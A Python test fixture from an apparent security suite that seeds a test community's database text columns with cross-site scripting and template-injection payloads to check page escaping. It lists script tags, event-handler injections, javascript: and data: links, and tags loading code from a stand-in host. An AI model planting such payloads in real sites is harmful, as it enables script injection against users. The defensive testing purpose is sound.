"""Texts that would run, load or restyle something where a page forgot to escape them, and how to plant them
in every text column of a community."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from sqlalchemy import Column, update

from storage.database import Database
from storage.tables import METADATA
from tests.security.two_tenants import OURS
from tests.support.stage import START

ELSEWHERE = "elsewhere.example"
"""A host that no page may ask for anything."""
TEXTS = (
    "<script>window.hit=1;alert(1)</script>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<img src=https://{ELSEWHERE}/x.png onerror=window.hit=2>",
    "<svg/onload=window.hit=3><animate onbegin=window.hit=3 attributeName=x dur=1s>",
    "\"><input autofocus onfocus=window.hit=4 x=\"",
    "' onmouseover='window.hit=5' style='position:fixed;inset:0' x='",
    "`onclick=window.hit=6`",
    "</textarea></title></style></option></select><details open ontoggle=window.hit=7>",
    "<iframe srcdoc=\"<script>parent.hit=8</script>\"></iframe>",
    f"<style>@import 'https://{ELSEWHERE}/x.css';body{{background:url(https://{ELSEWHERE}/y)}}</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css><base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'>",
    "[press](javascript:window.hit=9) <javascript:window.hit=9|press>",
    "[press](data:text/html,<script>window.hit=10</script>)",
    "{{ 7*191 }}{% print(7*191) %}{constructor}${7*191}#{7*191}",
    "&lt;script&gt;window.hit=11&lt;/script&gt;&#60;b&#62;",
    "＜script＞window.hit=12＜/script＞ \u202e<b>gpj\u202c \u2066x\u2069 \u200b<\u200bb>",
    "<scr<script>ipt>window.hit=13</scr</script>ipt>",
    "--><!--<!-- ]]><![CDATA[<script>window.hit=14</script>]]>",
    "*<b>bold</b>* _<i>_ ~<u>~ \\u003cscript\\u003e",
)  # fmt: skip
ALL = " ".join(TEXTS)
STAYING = " ".join(text for text in TEXTS if "http-equiv" not in text)
"""Without the one that leads away before anybody could look."""
COMPUTED = str(7 * 191)
"""What the braces come to where a template's language reads them."""
LINKS = (
    "javascript:window.hit=15",
    "JaVaScRiPt:window.hit=16",
    "data:text/html,<script>window.hit=17</script>",
)
_SHAPED: dict[str, object] = {
    "pageedition.content": {
        "title": ALL,
        "text": f"{ALL}\n- {ALL}",
        "links": [{"title": ALL, "url": url} for url in LINKS],
        "pictures": [{"id": OURS, "alt": ALL}],
        "files": [{"id": OURS, "alt": ALL}],
    },
    "keyidea.text": {code: {"idea": ALL, "question": ALL, "use": ALL} for code in ("en", "es")},
    "reportlink.scope": "all",
    "reportlink.expires_at": START + timedelta(days=30),
    "attendancedraft.said": {"absent": [ALL]},
    "attendancedraft.entries": [{"name": ALL, "original": ALL, "email": ALL, "joins": []}],
    "series.slug": '<script>window.hit=18</script>"><img src=x onerror=window.hit=19>',
    "pagepicture.media_type": "image/png",
    "pagepicture.content": ALL.encode(),
    "pagepicture.name": ALL[:60],
}
"""What has a shape of its own."""


def _planted(column: Column[Any], standing: object) -> object:
    """The hostile text where words may stand; what stood there where they may not."""
    where = f"{column.table.name}.{column.name}"
    if where in _SHAPED:
        return _SHAPED[where]
    if isinstance(standing, str) and standing.startswith("ours"):
        return ALL
    if isinstance(standing, dict) and str(standing.get("en", "")).startswith("ours"):
        return {"en": ALL, "es": ALL}
    return standing


async def plant(database: Database) -> int:
    """Put `ALL` in every text column of our community's rows. Returns how many columns hold it."""
    planted = 0
    async with database.write() as db:
        for table in METADATA.sorted_tables:
            ours = next(iter(table.primary_key.columns)) == OURS
            row = (await db.execute(table.select().where(ours))).mappings().one_or_none()
            if row is None:
                continue  # its key is not a number
            wanted = {column.name: _planted(column, row[column.name]) for column in table.columns}
            changes = {name: value for name, value in wanted.items() if value != row[name]}
            if changes:
                await db.execute(update(table).where(ours).values(changes))
            planted += len(changes)
    return planted
